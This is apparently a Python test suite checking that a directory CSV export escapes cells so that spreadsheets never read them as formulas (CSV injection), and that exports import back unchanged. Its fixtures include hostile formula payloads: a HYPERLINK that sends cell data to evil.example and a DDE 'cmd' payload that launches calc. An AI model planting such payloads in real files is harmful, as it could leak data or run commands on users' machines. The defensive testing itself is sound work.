"""Directory CSV opened in a spreadsheet: no cell of an export is ever read as a formula (OWASP
"CSV injection"), and an export imports back unchanged, hostile values included.
"""
from __future__ import annotations

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from core.audit import Actor
from core.db.engine import Database
from core.db.models import Association
from core.directory.exporter import export_csv, spreadsheet_row
from core.directory.importer import import_rows
from core.directory.readers import parse_csv
from core.text import fold
from tests.hostile_inputs import DERANDOMIZE, HOSTILE, count

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Values that start like a formula, or with the escape itself, in every free-text column.
HOSTILE_NAMES = (
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
    "+33 1 23 45 67 89",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
    "'s-Hertogenbosch Alumni",
    "''=double",
    "'",
    "=",
    "x=1",
)


def exported_cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [cell for row in rows[1:] for cell in row]


async def stored(db: Database) -> dict[str, tuple[str, str, str, str]]:
    async with db.transaction() as session:
        rows = (await session.execute(select(Association))).scalars().all()
    return {row.external_id: (row.name, row.city, row.description, row.contact_name) for row in rows}


async def test_export_never_starts_a_cell_with_a_formula_and_imports_back_unchanged(db: Database) -> None:
    rows = [
        (index, {"id": f"x{index}", "name": value if fold(value) else f"{value} Club {index}", "country": "NL", "city": value, "description": value,
                 "contact_name": value, "contact_phone": "+31 20 123 4567", "contact_consent": "yes"})
        for index, value in enumerate(HOSTILE_NAMES, start=2)
    ]
    report = await import_rows(db, rows, strict=True, actor=Actor.command_line())
    assert (report.created, report.rejected) == (len(HOSTILE_NAMES), [])
    before = await stored(db)
    assert before["x2"][0].startswith("=HYPERLINK") and before["x7"][0] == "'s-Hertogenbosch Alumni"

    out = io.StringIO()
    await export_csv(db, out)
    cells = exported_cells(out.getvalue())
    assert cells and not [cell for cell in cells if cell.startswith(TRIGGERS)]
    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")" in cells and "'+31 20 123 4567" in cells
    # An apostrophe the data really starts with survives: only a doubled one is an escape.
    assert "'s-Hertogenbosch Alumni" in cells and "''=1+1" in cells and "'''=double" in cells and "'" in cells

    again = await import_rows(db, parse_csv(out.getvalue()), strict=True, actor=Actor.command_line())
    assert (again.created, again.updated, again.unchanged, again.rejected) == (0, 0, len(HOSTILE_NAMES), [])
    assert await stored(db) == before


# A value starting with any run of escapes and triggers, then anything hostile.
_PREFIXES = st.text(st.sampled_from(["'", *TRIGGERS, " ", "x"]), max_size=4)
VALUES = st.one_of(HOSTILE, st.builds(lambda prefix, rest: prefix + rest, _PREFIXES, HOSTILE))


@settings(max_examples=300, deadline=None, database=None, derandomize=DERANDOMIZE)
@given(VALUES)
def test_any_cell_round_trips_through_the_exported_csv_and_never_starts_like_a_formula(value: str) -> None:
    count("csv cells")
    value = value.replace("\x00", "")  # csv cannot carry NUL; the importer strips control characters anyway
    written = spreadsheet_row((value, "FR"))
    assert not written[0].startswith(TRIGGERS)
    out = io.StringIO()  # quoted: stored values never hold a line break, generated ones may
    csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows([("name", "country"), written])
    (_line, row), = list(parse_csv(out.getvalue()))
    assert row["name"] == value
